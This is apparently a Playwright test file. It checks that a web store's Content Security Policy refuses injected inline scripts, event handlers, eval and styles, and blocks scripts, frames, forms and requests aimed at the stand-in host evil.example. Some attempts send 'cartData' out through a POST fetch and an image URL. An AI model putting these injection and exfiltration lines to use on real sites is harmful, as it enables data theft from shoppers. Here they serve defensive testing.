import type { ConsoleMessage, Request } from '@playwright/test';
import { expect, test } from '#tests/support/fixtures.ts';

declare global {
  interface Window {
    /** Set by injected code, which should never run. */
    injected?: boolean;
  }
}

const lineOf = (message: ConsoleMessage): string => `console ${message.type()}: ${message.text()}`;

/** What our pages never do: the directive that the browser reports, and an attempt. */
const attempts: readonly (readonly [string, RegExp, () => unknown])[] = [
  [
    'an inline script',
    /^console error: refused: script-src-elem inline$/,
    () => {
      const script = document.createElement('script');
      script.textContent = 'window.injected = true;';
      document.body.append(script);
    },
  ],
  [
    'an inline event handler',
    /^console error: refused: script-src-attr inline$/,
    () => {
      const image = document.createElement('img');
      image.setAttribute('onerror', 'window.injected = true;');
      document.body.append(image);
      image.src = 'data:,';
    },
  ],
  [
    'text run as code',
    /^console error: refused: script-src eval$/,
    () => void Reflect.apply(setTimeout, window, ['window.injected = true;']),
  ],
  [
    'an inline style',
    /^console error: refused: style-src-attr inline$/,
    () => document.body.setAttribute('style', 'display: none'),
  ],
  [
    "another host's script",
    /^console error: refused: script-src-elem https:\/\/evil\.example\/a\.js$/,
    () => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/a.js';
      document.body.append(script);
    },
  ],
  [
    'a request to another host',
    /^console error: refused: connect-src https:\/\/evil\.example\/b$/,
    () => fetch('https://evil.example/b', { method: 'POST', body: 'cartData' }).catch(() => 0),
  ],
  [
    "another host's picture",
    /^console error: refused: img-src https:\/\/evil\.example\/c\.png\?cartData$/,
    () => {
      new Image().src = 'https://evil.example/c.png?cartData';
    },
  ],
  [
    "another host's frame",
    /^console error: refused: frame-src https:\/\/evil\.example\/?$/,
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
    },
  ],
  [
    'a form sent to another host',
    /^console error: refused: form-action https:\/\/evil\.example\/d\??$/,
    () => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/d';
      document.body.append(form);
      form.submit();
    },
  ],
];

test("a page refuses what it never does, and the tests' watcher reports it", async ({
  page,
  store,
  problems,
}) => {
  for (const [, refusal] of attempts) problems.expect(refusal);
  // The browser's console message, and its entry of a request that it blocked.
  problems.expect(/Content Security Policy|\/\/evil\.example/);
  const asked: Request[] = [];
  page.on('request', (request) => asked.push(request));
  await store.open('/contact');
  for (const [what, refusal, attempt] of attempts)
    await test.step(what, async () => {
      const refused = page.waitForEvent('console', (message) => refusal.test(lineOf(message)));
      await page.evaluate(attempt);
      await refused;
      expect(await page.evaluate(() => window.injected)).toBeUndefined();
    });
  const sent = asked.filter((request) => request.failure()?.errorText !== 'csp');
  expect(sent.filter((request) => request.url().includes('evil.example'))).toEqual([]);
});
